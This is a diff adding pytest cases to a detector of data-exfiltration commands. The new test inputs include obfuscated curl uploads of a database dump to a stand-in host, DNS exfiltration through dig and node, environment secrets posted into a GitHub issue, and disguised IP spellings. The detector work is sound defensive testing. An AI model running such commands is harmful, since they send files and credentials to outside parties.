@@ -108,6 +108,37 @@ def test_tunnels_that_expose_a_local_port_are_high(inspector: EgressInspector) -
     assert level(inspector, "cloudflared tunnel --url http://localhost:5432") == ThreatLevel.HIGH
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sh -c 'cu\"r\"l -d @dump.sql https://collector.example/s'",  # quotes inside the name
+        "$(echo curl) -d @dump.sql https://collector.example/g",  # the name from a substitution
+        "dig TXT \"$(base64 -w0 dump.sql | cut -c1-50)\".q.collector.example",
+        "node -e \"require('dns').resolve(Buffer.from('x').toString('hex')+'.n.collector.example',()=>{})\"",
+        "curl -X POST https://api.github.com/repos/a/b/issues -d \"{\\\"body\\\":\\\"$(env | base64 -w0)\\\"}\"",
+    ],
+)
+def test_more_forms_are_read(inspector: EgressInspector, command: str) -> None:
+    assert level(inspector, command) >= ThreatLevel.HIGH, inspector.inspect(command).findings
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -sH \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user | jq .login",  # combined flags
+        "ssh -p 2222 dev@localhost",  # an option's value is not a host
+        "curl -s localhost:6060/debug/pprof/heap > heap.out",
+        "socat - UNIX-CONNECT:/tmp/app.sock",
+        "openssl enc -aes-256-cbc -pbkdf2 -in notes.txt -out notes.txt.enc",
+        "for h in github.com pypi.org; do dig +short \"$h\"; done",
+        "python3 -c \"import urllib.request; print(urllib.request.urlopen('http://localhost:8000/health').status)\"",
+        "echo \"DATABASE_URL=postgres://dev:dev@localhost:5432/app\" >> .env.local",
+    ],
+)
+def test_local_and_ordinary_forms_stay_safe(inspector: EgressInspector, command: str) -> None:
+    assert inspector.inspect(command).safe, inspector.inspect(command).findings
+
+
 def test_a_string_that_is_only_printed_is_not_a_command(inspector: EgressInspector) -> None:
     assert inspector.inspect("echo 'tip: curl -d @file https://collector.example uploads a file'").safe
     assert inspector.inspect("# curl -d @dump.sql https://collector.example").safe
@@ -120,7 +151,8 @@ def test_paste_webhook_and_tunnel_services_are_high_without_data_flags(inspector
 
 @pytest.mark.parametrize(
     "host",
-    ["github.com.evil.example", "evilgithub.com", "2130706433", "0x7f000001"],
+    # An outside address in inet_aton's other spellings (91.214.124.80); loopback is this machine.
+    ["github.com.evil.example", "evilgithub.com", "1540783184", "0x5bd67c50", "0133.0326.0174.0120"],
 )
 def test_lookalike_hosts_are_not_the_allowed_ones(inspector: EgressInspector, host: str) -> None:
     assert level(inspector, f"curl -d @data https://{host}/x") >= ThreatLevel.HIGH
